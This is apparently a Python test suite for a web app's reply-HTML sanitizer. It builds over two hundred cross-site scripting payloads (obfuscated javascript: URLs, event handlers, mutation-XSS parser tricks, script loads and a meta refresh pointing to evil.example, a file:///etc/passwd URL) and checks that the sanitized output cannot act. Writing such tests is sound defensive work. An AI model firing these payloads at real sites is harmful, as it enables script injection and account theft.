"""Whatever HTML a reply holds, what is shown of it cannot do anything."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nurture.web.reply_html import SCHEMES, TAGS, sanitize

RUN = "alert(1)"
_URLS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}",
    f"javascript&NewLine;:{RUN}",
    f"vbscript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:text/html,<script>{RUN}</script>",
    f"view-source:javascript:{RUN}",
    f"blob:{RUN}",
    "file:///etc/passwd",
    "//evil.example/x",
    "/relative",
    "?q=1",
]
_LINKS = ['<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a xlink:href="{}">x</a>']
_HANDLERS = [
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "onerror",
    "onload",
    "ontoggle",
    "onanimationstart",
    "onpointerover",
]
_HOLDERS = ["a", "b", "p", "li", "img src=x", "svg", "body", "details open", "input", "video src=x", "marquee", "x-own"]
_WHOLE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script >",
    f"<<script>{RUN}//<</script>",
    "<script src=//evil.example/x.js></script>",
    f"<style>@import '{RUN}'</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "<svg><use href='data:x#y'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<p/onclick={RUN}/x>",
    f"<p\x00 onclick={RUN}>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class=x id=y>x</div>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/x 2x'>",
    "<video poster=https://evil.example/x>",
    "<a href='https://ok.example' target=_blank ping='https://evil.example'>x</a>",
    '<a href="mailto:x@y.example?body=<script>">x</a>',
    f"<select><template shadowrootmode=open><script>{RUN}</script></template></select>",
    f'<b><i><u><a href="javascript:{RUN}"><b>x',
    f"\ufeff<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
]
PAYLOADS = [
    *(link.format(url) for link, url in product(_LINKS, _URLS)),
    *(f"<{holder} {handler}={RUN}>x" for holder, handler in product(_HOLDERS, _HANDLERS)),
    *_WHOLE,
]


class Reader(HTMLParser):
    """What a browser would find in it: every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        scheme = urlsplit(attributes.get("href") or "").scheme
        assert scheme in SCHEMES | {""}
    assert "<!" not in html and "<?" not in html


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_no_payload_leaves_anything_that_can_act() -> None:
    for payload in PAYLOADS:
        clean = sanitize(payload)
        assert_harmless(clean)
        assert sanitize(clean) == clean


@given(st.lists(st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "--", "</p>", "<p", "&", "\x00", " "]), max_size=6))
def test_no_mixture_of_payloads_does_either(parts: list[str]) -> None:
    clean = sanitize("".join(parts))
    assert_harmless(clean)
    assert sanitize(clean) == clean


@given(st.text())
def test_any_text_at_all_can_be_cleaned(text: str) -> None:
    assert_harmless(sanitize(text))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<p>Call <b>me</b><br>please</p>", "<p>Call <b>me</b><br>please</p>"),
        ("<div>one</div>two", "onetwo"),
        ("<ul><li>a</li></ul>", "<ul><li>a</li></ul>"),
        (
            '<a href="https://mill.example/x">us</a>',
            '<a href="https://mill.example/x" rel="noopener noreferrer nofollow">us</a>',
        ),
        ('<a href="javascript:x">us</a>', '<a rel="noopener noreferrer nofollow">us</a>'),
        ("5 < 6 & 7", "5 &lt; 6 &amp; 7"),
    ],
)
def test_what_people_write_stays_readable(written: str, shown: str) -> None:
    assert sanitize(written) == shown
